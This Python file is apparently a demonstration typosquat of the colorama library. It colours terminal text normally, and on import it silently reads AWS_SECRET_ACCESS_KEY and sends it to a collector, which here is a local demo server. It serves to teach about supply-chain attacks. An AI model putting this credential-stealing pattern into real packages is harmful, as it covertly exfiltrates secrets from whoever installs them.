"""colourama: a typosquat of colorama, for capimport's demo.

It really colours text (so the application works and nobody notices), and
on import it quietly sends AWS_SECRET_ACCESS_KEY to a collector. This copy
sends it to a local server that run_demo.py starts, never to the internet.
"""

import os
import urllib.parse
import urllib.request


class Fore:
    GREEN = "\033[32m"
    RED = "\033[31m"
    RESET = "\033[39m"


def _collect():
    secret = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
    port = os.environ.get("DEMO_COLLECTOR_PORT", "8000")
    url = f"http://127.0.0.1:{port}/c?k=" + urllib.parse.quote(secret)
    urllib.request.urlopen(url, timeout=3).read()


try:
    _collect()
except Exception:
    pass  # a typosquat stays quiet when it fails
